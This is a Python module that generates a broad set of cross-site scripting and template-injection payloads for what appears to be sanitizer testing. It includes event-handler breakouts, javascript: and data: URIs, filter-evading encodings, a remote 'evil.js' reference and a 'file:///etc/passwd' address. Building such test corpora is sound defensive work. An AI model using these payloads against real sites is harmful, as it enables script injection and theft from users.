"""Words that would be a script if a page let them: made systematically, by what could take them for markup.

Each calls `mark`, a name that a test can look for, or opens a dialog. Nothing here is written for one page.
"""

from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

MARK = "readoutsPwned"
CALL = f"alert(window.{MARK}=1)"

# What ends the place where the words stand: text, attributes in each kind of quotes, elements of raw text, comments.
ENDS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "</option></select>",
    "]]>",
    "</bdi></a>",
)

# An element that runs something by itself.
ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<object data='javascript:{CALL}'></object>",
    f"<embed src='javascript:{CALL}'>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<body onload={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<base href='javascript:{CALL}//'>",
    "<link rel=stylesheet href='data:text/css,*{background:red}'>",
    f"<style>@import 'javascript:{CALL}'; *{{background:url(javascript:{CALL})}}</style>",
    f"<form action='javascript:{CALL}'><button autofocus onfocus={CALL}>x</button></form>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'></noscript>",
    f"<dialog open onclose={CALL}><form method=dialog></form></dialog>",
)

# Attributes that an unquoted or wrongly quoted place would take.
HANDLERS = ("onerror", "onload", "onfocus", "onclick", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle")
QUOTES = ('"', "'", "", "`", "&quot;", "&#39;", "&#x22;")

# Addresses that run something.
SCHEMES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"javascript://example.org/%0a{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"data:image/svg+xml,<svg onload={CALL}>",
    f'https://example.org/"onmouseover={CALL} x="',
    f"https://example.org/'><img src=x onerror={CALL}>",
    f"https://user:{CALL}@example.org/#<svg onload={CALL}>",
    "//example.org/evil.js",
    "file:///etc/passwd",
)

# What a template engine, a script or a style sheet would evaluate.
TEMPLATES = (
    "{{ 7 * 7 }}", "{% include 'base.html' %}", "{# x #}", "{{ view.token }}", "{{ ''.__class__.__mro__ }}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "${" + CALL + "}", "`${" + CALL + "}`", "\\u003cscript\\u003e" + CALL, "';" + CALL + ";//",
    '";' + CALL + ";//", "expression(" + CALL + ")", "}*{background:url(javascript:" + CALL + ")}", "__proto__",
    "</script><script>" + CALL + "//", "<!--<script>" + CALL, "<![CDATA[<script>" + CALL + "]]>", "%00<script>" + CALL,
)  # fmt: skip

# Characters that hide, turn or break what stands around them.
SIGNS = (
    "\u202e",
    "\u2066",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u2028",
    "\u0085",
    "\x00",
    "\x0b",
    "\x1b[31m",
    "\ufffd",
    "\u00ad",
)

# Ways to write the same markup that a filter may miss.
WAYS = ("plain", "upper", "entity", "hexadecimal", "percent", "twice", "wide", "unclosed", "slashed")


def payloads() -> tuple[str, ...]:
    """All of them, each once, in a fixed order."""
    made = (*_elements(), *_attributes(), *SCHEMES, *_ways(), *TEMPLATES, *_hidden())
    return tuple(dict.fromkeys(made))


def _elements() -> Iterator[str]:
    """Every element bare; every end with a few of them."""
    yield from ELEMENTS
    for end, element in product(ENDS[1:], ELEMENTS[:7]):
        yield end + element


def _attributes() -> Iterator[str]:
    for quotes, handler in product(QUOTES, HANDLERS):
        yield f"x{quotes} {handler}={CALL} autofocus tabindex=0 style=animation-name:come {quotes}"


def _ways() -> Iterator[str]:
    for way, element in product(WAYS[1:], ELEMENTS[:7]):
        yield _written(way, element)


def _written(way: str, element: str) -> str:
    written = {
        "upper": element.replace("script", "ScRiPt").replace("img", "IMG").replace("svg", "SvG"),
        "entity": element.replace("<", "&lt;").replace(">", "&gt;"),
        "hexadecimal": "".join(f"&#x{ord(c):x};" for c in element[:12]) + element[12:],
        "percent": quote(element, safe=""),
        "twice": element.replace("<", "<<").replace("script", "scrscriptipt"),
        "wide": element.replace("<", "\uff1c").replace(">", "\uff1e"),
        "unclosed": element.rstrip(">").removesuffix("</script"),
        "slashed": element.replace(" ", "/"),
    }
    return written[way]


def _hidden() -> Iterator[str]:
    for sign, element in product(SIGNS, ELEMENTS[:5]):
        yield f"<{sign}{element[1:]}" if sign != "\u202e" else f"{sign}{element}"
